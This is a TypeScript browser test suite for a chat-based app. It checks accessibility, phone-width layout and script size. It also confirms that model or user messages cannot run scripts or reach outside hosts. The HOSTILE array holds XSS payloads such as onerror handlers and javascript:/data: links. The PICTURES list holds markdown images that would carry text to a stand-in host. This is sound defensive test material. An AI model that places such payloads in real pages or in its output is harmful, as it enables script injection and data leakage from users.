import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import AxeBuilder from '@axe-core/playwright'
import { type ScriptedModel, scriptedGateway, scriptedModel } from '@parco/agent/testing'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { PAGES } from '../../src/pages/index-of-pages.ts'
import { launchBrowser } from './browser.ts'
import { type RunningParco, startParco } from './running-parco.ts'
import { type Visit, visit } from './visit.ts'

/** Script that is loaded before anything can be done, packed. */
const MAX_SCRIPT_BYTES = 250 * 1024

/** What scripts hide in, and where pictures carry words away to. */
const HOSTILE = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<svg/onload="window.hit = 1">',
  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  '<a href="javascript:window.hit = 1">a</a>',
  '[a](javascript:window.hit=1)',
  '[a](JaVaScRiPt:window.hit=1)',
  '[a](data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==)',
  '[a](vbscript:msgbox)',
  '<details open ontoggle="window.hit = 1">',
  '<style>@import "https://elsewhere.example/s.css";</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hit = 1">',
  '`<script>window.hit = 1</script>`',
  '<form action="https://elsewhere.example"><button>a</button></form>',
  '<object data="https://elsewhere.example/o"></object>',
  '<link rel="prefetch" href="https://elsewhere.example/p">',
]
const PICTURES = Array.from({ length: 100 }, (_, index) =>
  index % 2 === 0
    ? `![x](https://elsewhere.example/${index}.png?said=segredo)`
    : `![x][p${index}]\n\n[p${index}]: https://elsewhere.example/${index}.png`,
)

describe.skipIf(!process.env.PARCO_TEST_BROWSER)('what every page keeps to', () => {
  let parco: RunningParco
  let browser: Browser
  let model: ScriptedModel = scriptedModel([])
  let opened: Visit
  beforeAll(async () => {
    parco = await startParco({ models: async () => scriptedGateway(model) })
    browser = await launchBrowser()
    // Without movement nothing is half transparent when it is looked at.
    opened = await visit(browser, parco, { reducedMotion: 'reduce' })
    await opened.say('gastei 33 na mercearia e tomei 500 ml de água')
    await opened.page.getByRole('button', { name: 'Anotar tudo' }).click()
    await opened.page.getByRole('button', { name: /^Desfazer: .*Mercearia/ }).waitFor()
  })
  afterAll(async () => {
    expect(opened.pageErrors).toEqual([])
    await browser?.close()
    await parco?.stop()
  })

  for (const locale of ['pt-BR', 'en'] as const)
    for (const colorScheme of ['light', 'dark'] as const)
      it(`has no serious finding on any page, and fits 320 px: ${locale}, ${colorScheme}`, async () => {
        const { page } = opened
        await page.evaluate(
          (chosen) =>
            fetch('/api/user', {
              method: 'PATCH',
              headers: { 'content-type': 'application/json' },
              body: JSON.stringify({ locale: chosen }),
            }),
          locale,
        )
        await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
        const found: string[] = []
        for (const path of ['/', ...PAGES.map((one) => one.path)]) {
          await page.setViewportSize({ width: 1280, height: 800 })
          await page.goto(`${parco.address}${path}`)
          await page.locator(`html[lang="${locale}"]`).waitFor({ state: 'attached' })
          await isRead(page)
          found.push(...(await seriousOn(page)).map((one) => `${path}: ${one}`))
          await page.setViewportSize({ width: 320, height: 640 })
          const overflow = await page.evaluate(
            () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
          )
          if (overflow > 0) found.push(`${path}: ${overflow} px wider than a phone`)
        }
        expect(found).toEqual([])
      })

  it('runs no script and asks no other machine, whatever a model or a user writes', async () => {
    const { page, say, requested, composer } = await visit(browser, parco)
    model = scriptedModel([{ text: [...HOSTILE, ...PICTURES, 'Fim da lista.'].join('\n\n') }])
    await say('qual é a capital do Chile?')
    await page.getByText('Fim da lista.').first().waitFor()
    await page.locator('.status').waitFor({ state: 'detached' })
    await composer.fill(HOSTILE.join('\n'))
    await composer.press('Enter')
    await page.locator('.bubble', { hasText: 'onerror' }).waitFor()
    await page.reload()
    await page.getByText('Fim da lista.').first().waitFor()
    expect(await page.evaluate(() => (window as unknown as { hit?: number }).hit)).toBeUndefined()
    expect(await page.locator('.entries img, .entries iframe, .entries script').count()).toBe(0)
    const schemes = await page
      .locator('.entries a')
      .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol))
    expect(schemes.filter((scheme) => !/^https?:$/.test(scheme))).toEqual([])
    expect(requested.filter((url) => !url.startsWith(`${parco.address}/`))).toEqual([])
    await page.context().close()
  })

  it('loads no more script than 250 KB before anything can be done', async () => {
    const { context, page, requested } = await visit(browser, parco)
    await page.waitForLoadState('networkidle')
    const loaded = new Set(requested.map((url) => new URL(url).pathname))
    const folder = join(parco.pageDirectory, 'assets')
    const sizes = readdirSync(folder)
      .filter((name) => name.endsWith('.js') && loaded.has(`/assets/${name}`))
      .map((name) => gzipSync(readFileSync(join(folder, name))).byteLength)
    expect(sizes.length).toBeGreaterThan(3)
    expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThan(MAX_SCRIPT_BYTES)
    await context.close()
  })
})

/** Waits until nothing on the page is still on its way, or of what was asked before. */
async function isRead(page: Page): Promise<void> {
  await page.getByRole('main').waitFor()
  await page.locator('.reading, [data-stale="true"], [aria-busy="true"]').first().waitFor({
    state: 'detached',
  })
}

async function seriousOn(page: Page): Promise<string[]> {
  const { violations } = await new AxeBuilder({ page }).analyze()
  return violations
    .filter(({ impact }) => impact === 'serious' || impact === 'critical')
    .map(({ id, nodes }) => `${id} ${nodes.map(({ html }) => html).join(' ')}`)
}
